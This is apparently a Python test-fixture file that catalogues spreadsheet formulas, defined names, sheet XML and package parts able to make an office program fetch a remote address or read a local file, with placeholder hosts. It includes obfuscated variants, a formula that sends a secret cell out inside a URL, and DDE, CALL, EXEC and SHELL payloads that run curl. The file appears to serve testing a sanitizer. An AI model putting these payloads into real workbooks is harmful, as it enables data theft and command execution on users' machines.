"""What a workbook may hold to make a program fetch an address or read a file."""


def built(url, sheet="$Sheet1.A1"):
    """A formula of the text with which LibreOffice names a cell of another file."""
    return f'CHAR(39)&"{url}"&CHAR(39)&CHAR(35)&"{sheet}"'


# URL and FILE stand for the server and the file with the secret.
FORMULAS = {
    "built address": f"INDIRECT({built('URL/1.csv')})",
    "built in pieces": 'INDIRECT("\'"&"ht"&"tp"&MID("URL/2",5,99)&".csv\'"&CHAR(30+5)&"$a.A1")',
    "in VLOOKUP": f"VLOOKUP(1,INDIRECT({built('URL/3.csv', '$a.A1:B2')}),2,0)",
    "in COUNTIF": f"COUNTIF(INDIRECT({built('URL/4.csv')}),1)",
    "in OFFSET": f"OFFSET(INDIRECT({built('URL/5.csv')}),0,0)",
    "in INDEX": f"INDEX(INDIRECT({built('URL/6.csv', '$a.A1:B2')}),1,1)",
    "in FORMULA": f"_xlfn.FORMULATEXT(INDIRECT({built('URL/7.csv')}))",
    "in IF": f"IF(TRUE,INDIRECT({built('URL/8.csv')}),0)",
    "range of two": f"SUM(INDIRECT({built('URL/9.csv')}):B2)",
    "leak": 'INDIRECT(CHAR(39)&"URL/"&INDIRECT(' + built("FILE", "$secret.A1")
    + ')&".csv"&CHAR(39)&CHAR(35)&"$a.A1")',
    "file": f"INDIRECT({built('FILE', '$secret.A1')})",
    "typed helper": "INDIRECT(AX400)",
    "calculated helper": "INDIRECT(AY400)",
    "helper of a helper": "INDIRECT(AZ400&BA400)",
    "with a blank": f"INDIRECT ({built('URL/10.csv')})",
    "small letters": f"indirect({built('URL/11.csv')})",
    "dotless i": f"\u0131nd\u0131rect({built('URL/12.csv')})",
    "escaped": f"&#73;NDIRECT({built('URL/13.csv')})",
    "x escape": f"_x0049_NDIRECT({built('URL/14.csv')})",
    "prefixed": f"_xlfn.INDIRECT({built('URL/15.csv')})",
    "of LibreOffice": f"_xlfn.ORG.LIBREOFFICE.INDIRECT({built('URL/16.csv')})",
    "bound by LET": f"_xlfn.LET(_xlpm.f,INDIRECT,_xlpm.f({built('URL/17.csv')}))",
    "mapped": f"_xlfn.MAP({built('URL/18.csv')},INDIRECT)",
    "R1C1": f'INDIRECT({built("URL/19.csv", "$a.R1C1")},FALSE)',
    "Excel's address": 'INDIRECT("\'URL/[20.xlsx]Sheet1\'!A1")',
    "Excel's other address": 'INDIRECT("[URL/21.xlsx]Sheet1!A1")',
    "of ADDRESS": "INDIRECT(ADDRESS(1,1,1,1," + built("URL/22.csv", "$a") + "))",
    "ADDRESS alone": "ADDRESS(1,1,1,1," + built("URL/23.csv", "$a") + ")",
    "OFFSET of a text": f"OFFSET({built('URL/24.csv')},0,0)",
    "CELL of a text": f'CELL("contents",{built("URL/25.csv")})',
    "SHEET of a text": f"_xlfn.SHEET({built('URL/26.csv')})",
    "a name": "far_away",
    "a name of a name": "farther",
    "a name in INDIRECT": "INDIRECT(written)",
    "a name of one sheet": "nearby",
    "a name for a call": "caller(1)",
    "plain address": "'URL/27.csv'#$Sheet1.A1",
    "plain file": "'FILE'#$secret.A1",
    "plain range": "SUM('URL/28.csv'#$Sheet1.A1:B2)",
    "Excel's file": "'URL/[29.xlsx]Sheet1'!$A$1",
    "without quotes": "[URL/30.xlsx]Sheet1!$A$1",
    "odd sheet": "[URL/31.xlsx]Sheet-1!A1",
    "blank before the sheet": "[URL/32.xlsx] Sheet1!A1",
    "external name": "[1]!stolen",
    "external sheet": "[1]Sheet1!A1",
    "sheet as address": "'URL/33.csv'!A1",
    "WEBSERVICE": '_xlfn.WEBSERVICE("URL/34")',
    "WEBSERVICE, long s": 'WEB\u017fERVICE("URL/35")',
    "WEBSERVICE of LibreOffice": '_xlfn.ORG.OPENOFFICE.WEBSERVICE("URL/36")',
    "FILTERXML": '_xlfn.FILTERXML(_xlfn.WEBSERVICE("URL/37"),"//a")',
    "IMAGE": '_xlfn.IMAGE("URL/38.png")',
    "HYPERLINK": 'HYPERLINK("URL/39","look")',
    "DDE": 'DDE("soffice","FILE","secret.A1")',
    "DDE of Excel": "soffice|'FILE'!A1",
    "command": "cmd|'/c curl URL/40'!A0",
    "RTD": 'RTD("x","URL/41","a")',
    "CALL": 'CALL("libc","system","JC","curl URL/42")',
    "REGISTER.ID": 'REGISTER.ID("libc","system")',
    "EXEC": 'EXEC("curl URL/43")',
    "EVALUATE": f'EVALUATE("INDIRECT("&{built("URL/44.csv")}&")")',
    "SQL.REQUEST": 'SQL.REQUEST("URL/45","","","select 1")',
    "CUBEVALUE": 'CUBEVALUE("URL/46","[m]")',
    "STOCKHISTORY": '_xlfn.STOCKHISTORY("URL/47",1)',
    "Python": '_xlfn._xlws.PY("URL/48",1)',
    "macro": 'SHELL("curl URL/49")',
    "add-in": 'COM.SUN.STAR.SHEET.ADDIN.LOAD("URL/50")',
    "FOPEN": 'FOPEN("FILE")',
    "DOCUMENTS": 'DOCUMENTS("FILE")',
}  # fmt: skip
NAMES = {
    "far_away": f"INDIRECT({built('URL/61.csv')})",
    "farther": "far_away&1",
    "written": built("URL/62.csv"),
    "caller": f"_xlfn.LAMBDA(_xlpm.x,INDIRECT({built('URL/63.csv')}))",
    "spoken": '_xlfn.WEBSERVICE("URL/64")',
    "plainly": "'URL/65.csv'#$Sheet1.A1",
}
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
# What stands beside the cells, each with a link to it where there must be one.
AROUND = {
    "validation": '<dataValidations count="1"><dataValidation type="list" sqref="B2"><formula1>'
    f"INDIRECT({built('URL/71.csv')})</formula1></dataValidation></dataValidations>",
    "conditional format": '<conditionalFormatting sqref="B2"><cfRule type="expression" '
    f'priority="1"><formula>INDIRECT({built("URL/72.csv")})</formula></cfRule>'
    "</conditionalFormatting>",
    "hyperlink": f'<hyperlinks><hyperlink ref="B2" r:id="rId90" xmlns:r="{OFFICE}"/></hyperlinks>',
    "drawing": f'<drawing r:id="rId91" xmlns:r="{OFFICE}"/>',
    "legacy drawing": f'<legacyDrawing r:id="rId92" xmlns:r="{OFFICE}"/>',
    "background": f'<picture r:id="rId93" xmlns:r="{OFFICE}"/>',
    "object": '<oleObjects><oleObject progId="Package" shapeId="1" link="[1]!x" '
    'oleUpdate="OLEUPDATE_ALWAYS"/></oleObjects>',
    "web publishing": '<webPublishItems count="1"><webPublishItem id="1" divId="x" '
    'sourceType="sheet" destinationFile="URL/73" autoRepublish="1"/></webPublishItems>',
}
LINKS = {
    "hyperlink": "rId90", "image": "rId91", "vmlDrawing": "rId92", "oleObject": "rId93",
    "queryTable": "rId94", "externalLinkPath": "rId95", "attachedTemplate": "rId96",
    "control": "rId97", "printerSettings": "rId98", "customXml": "rId99",
}  # fmt: skip
PARTS = {
    "xl/connections.xml": '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
    '2006/main"><connection id="1" name="c" type="4" refreshOnLoad="1"><webPr url="URL/81" '
    'sourceData="1"/></connection></connections>',
    "xl/externalLinks/externalLink1.xml": '<externalLink xmlns="http://schemas.openxmlformats.org/'
    f'spreadsheetml/2006/main"><externalBook r:id="rId1" xmlns:r="{OFFICE}"/></externalLink>',
    "xl/externalLinks/_rels/externalLink1.xml.rels": '<Relationships xmlns="http://schemas.'
    f'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{OFFICE}/'
    'externalLinkPath" Target="URL/82.xlsx" TargetMode="External"/></Relationships>',
    "xl/queryTables/queryTable1.xml": '<queryTable xmlns="http://schemas.openxmlformats.org/'
    'spreadsheetml/2006/main" name="q" connectionId="1" refreshOnLoad="1"/>',
    "customUI/customUI.xml": '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/'
    'customui" onLoad="URL/83"/>',
    "Basic/script-lc.xml": '<library name="Standard" xlink:href="URL/84"/>',
    "xl/media/a.svg": '<svg xmlns="http://www.w3.org/2000/svg"><image href="URL/85"/></svg>',
}
